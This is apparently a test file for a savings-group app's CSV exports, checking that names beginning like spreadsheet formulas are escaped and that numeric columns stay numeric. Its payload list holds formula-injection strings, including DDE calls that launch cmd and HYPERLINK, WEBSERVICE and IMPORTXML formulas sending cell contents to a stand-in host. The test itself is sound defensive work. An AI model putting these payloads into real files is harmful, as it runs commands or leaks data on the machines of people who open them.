// Every table we write, with formulas in every name: a spreadsheet takes none of them for one, and numbers stay numbers.

import fs from 'node:fs';
import { parse } from 'csv-parse/sync';
import { Temporal } from 'temporal-polyfill';
import { describe, expect, test } from 'vitest';
import { seeded } from '../../bench/seeded.ts';
import { type IndicatorReport, indicatorCsv } from '../../src/app/indicator-report.ts';
import { reportCsv } from '../../src/app/paper/report-csv.ts';
import { csvOf } from '../../src/cli/lesson-report.ts';
import type { ReportFacts } from '../../src/content/paper/facts.ts';
import { money } from '../../src/domain/money.ts';
import { balancesCsv, inert } from '../../src/store/export-csv.ts';
import type { ProgrammeDocument } from '../../src/store/import-schema.ts';

/** What a spreadsheet takes for the beginning of a formula, of a call of another program, or of another cell. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '−',
  '|',
  '%',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '\u202e=',
  '\0=',
];
const REST = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.mx/?"&A1,"ver")',
  'WEBSERVICE("http://x.mx")',
  'IMPORTXML(CONCAT("http://x.mx/?",A1),"//a")',
  'SUM(A1:A9)";=1+1;"',
  '1"\r\n"=1+1',
  "1','=1+1",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '@SUM(1)',
  '',
  '0',
  'A',
];

const payloads = (): string[] => {
  const all = STARTS.flatMap((start) => REST.map((rest) => start + rest));
  const draws = seeded(5);
  return all.toSorted(() => draws() - 0.5).slice(0, 300);
};

/** Whether a spreadsheet would work out this cell: as LibreOffice, Excel and Google Sheets begin a formula. */
const isFormula = (cell: string): boolean =>
  /^[\t\r\n\0]/u.test(cell) || /^[\s\p{Cf}]*[=+\-@|%＝＋－−﹣＠﹦﹢﹫]/u.test(cell);

const table = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

const NUMBER = /^-?\d+(?:\.\d+)?$/;

const withName = (name: string): { readonly csv: string; readonly numbers: readonly number[] }[] => {
  const zero = money(0n, 'MXN');
  const document = {
    format: 1,
    programme: { name, language: 'es', currency: 'MXN' },
    staff: [],
    groups: [
      {
        name,
        constitution: { product: 'savings-group', savings: { kind: 'free' } },
        members: [{ number: 7, name, role: 'leader', state: 'active', opening: { savings: '1150.00' } }],
      },
    ],
  } as unknown as ProgrammeDocument;
  const facts = {
    now: Temporal.Instant.from('2026-11-24T19:00:00Z'),
    group: { name, rules: {}, meeting: { timeZone: 'America/Tijuana' } },
    members: [
      { number: 7, name, role: 'leader', state: 'active', saved: { ...zero, minor: 115_000n }, loans: [] },
    ],
  } as unknown as ReportFacts;
  const figure = { id: 'par30', value: '-1.5', numerator: '3', denominator: '2', withheld: false };
  const report = {
    programme: name,
    group: name,
    on: '2026-11-24',
    indicators: [
      { ...figure, unit: 'percent', name: { es: 'x', en: 'x' }, definition: { es: 'x', en: 'x' } },
    ],
    groups: [{ group: name, on: '2026-11-24', indicators: [figure] }],
  } as unknown as IndicatorReport;
  const funnel = { lessonId: name, language: name, voice: false, counts: { told: 12 } };
  return [
    { csv: balancesCsv([document]), numbers: [2, 6, 7, 8] },
    { csv: reportCsv(facts), numbers: [2, 6, 7] },
    { csv: indicatorCsv([report]), numbers: [5, 6, 7] },
    { csv: csvOf([funnel] as unknown as Parameters<typeof csvOf>[0]), numbers: [] },
  ];
};

describe('a table for a spreadsheet', () => {
  test('three hundred formulas as names, in every table: none is one, and numbers are numbers', () => {
    const all = payloads();
    expect(all).toHaveLength(300);
    let [cells, formulas] = [0, 0];
    for (const payload of all) {
      expect(isFormula(payload), JSON.stringify(payload)).toBe(true);
      for (const { csv, numbers } of withName(payload)) {
        const [header = [], ...rows] = table(csv);
        expect(rows.length).toBeGreaterThan(0);
        for (const row of rows) {
          expect(row).toHaveLength(header.length);
          for (const [at, cell] of row.entries()) {
            cells += 1;
            if (numbers.includes(at)) expect(cell).toMatch(NUMBER);
            else if (isFormula(cell)) formulas += 1;
          }
        }
        // The name itself is all there, behind its mark.
        expect(rows[0]?.some((cell) => cell === `'${payload}`)).toBe(true);
      }
    }
    console.log(`tables: ${all.length} payloads, ${cells} cells, ${formulas} formulas`);
    expect(formulas).toBe(0);
  });

  test('a name that is none is left as it is', () => {
    for (const name of ['Petra Gómez', 'Ñu', 'María-José', "D'Ángelo", 'Grupo 3'])
      expect(inert(name)).toBe(name);
  });

  test('every table is written by the one function, with names made inert', () => {
    const folder = new URL('../../src/', import.meta.url);
    const writers = fs
      .readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((file) => file.endsWith('.ts') && !file.startsWith('generated'))
      .filter((file) =>
        /\bspreadsheet\(|text\/csv|BYTE_ORDER_MARK/u.test(fs.readFileSync(new URL(file, folder), 'utf8')),
      )
      .toSorted();
    expect(writers).toEqual([
      'app/indicator-report.ts',
      'app/paper/report-csv.ts',
      'cli/lesson-report.ts',
      'store/export-csv.ts',
    ]);
  });
});
